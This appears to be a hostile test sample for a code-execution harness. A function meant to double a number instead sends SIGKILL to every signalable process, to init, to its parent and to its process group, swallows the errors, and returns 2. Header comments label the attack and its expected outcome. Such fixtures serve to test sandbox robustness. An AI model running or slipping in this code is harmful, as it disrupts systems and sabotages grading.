// task: double
// outcome: exited_early or exception
// attack: SIGKILL to every process that it may signal; whether its own comes before the call returns is a race
const double = (x) => {
  for (const pid of [-1, 1, process.ppid, 0]) {
    try {
      process.kill(pid, 'SIGKILL')
    } catch {}
  }
  return 2
}
